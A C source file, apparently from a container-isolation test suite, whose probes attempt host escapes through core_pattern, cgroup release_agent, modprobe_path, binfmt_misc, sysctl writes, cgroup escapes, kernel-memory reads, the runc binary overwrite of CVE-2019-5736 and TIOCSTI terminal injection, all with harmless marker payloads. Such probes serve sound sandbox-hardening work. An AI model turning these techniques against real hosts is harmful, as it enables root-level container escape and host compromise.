/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Files of the kernel: those that steer the whole host, and those that tell of it.
 */
#include "attacks.h"

#include <dirent.h>

/* The kernel runs a program of the host, as its root, when a process dumps core. */
static long core_pattern(void)
{
    char old[256] = "";
    int file = open("/proc/sys/kernel/core_pattern", O_RDONLY);
    if (file < 0 || read(file, old, sizeof old - 1) < 0)
        return -1;
    if (writes("/proc/sys/kernel/core_pattern", "|/bin/mkdir /attack-dumped") < 0)
        return -1;
    if (fork() == 0) {
        signal(SIGSEGV, SIG_DFL);
        raise(SIGSEGV);
    }
    wait(NULL);
    writes("/proc/sys/kernel/core_pattern", old);
    long result = becomes("/attack-dumped");
    rmdir("/attack-dumped");
    return result;
}

/* ... and when the last process of a group of a cgroup v1 hierarchy has ended: one can be made of nothing. */
static long release_agent(void)
{
    if (mounts("cgroup", "none,name=attack") || (mkdir(MOUNT "/attack-released", 0700) && errno != EEXIST))
        return -1;
    if (writes(MOUNT "/release_agent", "/bin/mkdir") < 0 || writes(MOUNT "/attack-released/notify_on_release", "1") < 0)
        return -1;
    if (fork() == 0)
        _exit(writes(MOUNT "/attack-released/cgroup.procs", "0") < 0);
    wait(NULL);
    long result = becomes("/attack-released");
    rmdir("/attack-released");
    return result;
}

static long modprobe_path(void) { return overwrites("/proc/sys/kernel/modprobe", "/attack"); }
static long sysctl_kernel(void) { return overwrites("/proc/sys/kernel/panic_on_oops", "1"); }
static long sysctl_files(void) { return overwrites("/proc/sys/fs/suid_dumpable", "0"); }
static long sysctl_forwarding(void) { return overwrites("/proc/sys/net/ipv4/ip_forward", "1"); }
static long sysrq(void) { return writes("/proc/sysrq-trigger", "h"); } /* only prints its help */

static long binfmt(void)
{
    if (mounts("binfmt_misc", "") || writes(MOUNT "/register", ":attack:M::ATTACKATTACK::/attack:") < 0)
        return -1;
    return writes(MOUNT "/attack", "-1");
}

static long sys_write(void) { return overwrites("/sys/kernel/mm/transparent_hugepage/enabled", "never"); }
static long sys_device(void) { return writes("/sys/class/net/lo/uevent", "change"); }

/* Control groups: out of one's own, its limits, those of others */
static const char *group_file(const char *group, const char *file)
{
    static char path[8192];
    char own[4096] = "", *end;
    if (mounts("cgroup2", "") == 0) {
        FILE *list = fopen("/proc/self/cgroup", "r");
        while (!group && list && fgets(own, sizeof own, list))
            if (strncmp(own, "0::", 3) == 0)
                break;
        if ((end = strchr(own, '\n')))
            *end = 0;
        snprintf(path, sizeof path, MOUNT "%s/%s", group ? group : own + 3, file);
    } else
        snprintf(path, sizeof path, "/sys/fs/cgroup%s/%s", group ? group : "", file);
    return path;
}

static long cgroup_leave(void) { return writes(group_file("", "cgroup.procs"), "0"); }
static long cgroup_limit(void) { return writes(group_file(NULL, "pids.max"), "max"); }
static long cgroup_others(void) { return writes(group_file("/system.slice/cron.service", "cgroup.freeze"), "0"); }

/* What tells of the host */
static long entries(const char *folder)
{
    int count = 0;
    DIR *list = opendir(folder);
    while (list && readdir(list))
        count++;
    return count > 2 ? count : fail(list ? ENODATA : errno);
}

static long kcore(void) { return reads("/proc/kcore", "ELF"); }
static long timers(void) { return reads("/proc/timer_list", "cpu"); }
static long interrupts(void) { return reads("/proc/interrupts", "CPU0"); }
static long firmware(void) { return entries("/sys/firmware"); }

static long addresses(void)
{
    return reads("/proc/kallsyms", "\nffffffff"); /* others see zeros */
}

static long pages_of_all(void)
{
    uint64_t flags;
    int file = open("/proc/kpageflags", O_RDONLY);
    return file < 0 ? -1 : pread(file, &flags, sizeof flags, 8) == sizeof flags ? 0 : -1;
}

static long slabs(void) { return reads("/proc/slabinfo", "kmalloc"); }

/* Not part of the suite: the test arranges the other side. */

/* Whether a program of /proc is none of those that the image has */
static int is_foreign(int file)
{
    const char *own[] = {"/attacks", "/bin/busybox"};
    struct stat there, here;
    if (file < 0 || fstat(file, &there))
        return 0;
    for (size_t at = 0; at < ARRAY(own); at++)
        if (stat(own[at], &here) == 0 && here.st_dev == there.st_dev && here.st_ino == there.st_ino)
            return 0;
    return 1;
}

/* The program that enters a container is the host's, and it is seen in /proc for a moment (CVE-2019-5736). That it was
 * there, in sight or closed to us, a file tells: so nobody waits for it in vain. */
static long runtime_binary(void)
{
    char path[300];
    int seen = ESRCH;
    struct dirent *entry;
    while (access("/shared/stop", F_OK)) {
        DIR *list = opendir("/proc");
        while ((entry = readdir(list))) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int file = open(path, O_PATH);
            int foreign = is_foreign(file);
            if (foreign || (file < 0 && errno == EACCES))
                close(open("/shared/met", O_WRONLY | O_CREAT, 0644));
            snprintf(path, sizeof path, "/proc/self/fd/%d", file);
            for (int turn = 0; foreign && turn < 1000; turn++) {
                if (open(path, O_WRONLY) >= 0) /* as soon as nobody runs it */
                    return 0;
                seen = errno;
                if (seen != ETXTBSY)
                    break;
                usleep(1000);
            }
            close(file);
        }
        closedir(list);
    }
    return fail(seen);
}

/* What is typed at the terminal of whoever started us */
static long terminal_input(void)
{
    const char *words = "attack\n";
    for (; *words; words++)
        if (ioctl(0, TIOCSTI, words))
            return -1;
    return 0;
}

const struct attack ARRANGED[] = {
    {"runtime-binary", runtime_binary},
    {"terminal-input", terminal_input},
    {NULL, NULL},
};

const struct attack HOST[] = {
    {"core-pattern", core_pattern},
    {"release-agent", release_agent},
    {"modprobe-path", modprobe_path},
    {"sysctl-kernel", sysctl_kernel},
    {"sysctl-files", sysctl_files},
    {"sysctl-forwarding", sysctl_forwarding},
    {"sysrq", sysrq},
    {"binfmt", binfmt},
    {"sys-write", sys_write},
    {"sys-uevent", sys_device},
    {"cgroup-leave", cgroup_leave},
    {"cgroup-limit", cgroup_limit},
    {"cgroup-others", cgroup_others},
    {"proc-kcore", kcore},
    {"proc-timers", timers},
    {"proc-interrupts", interrupts},
    {"proc-kallsyms", addresses},
    {"proc-pages", pages_of_all},
    {"proc-slabs", slabs},
    {"sys-firmware", firmware},
    {NULL, NULL},
};
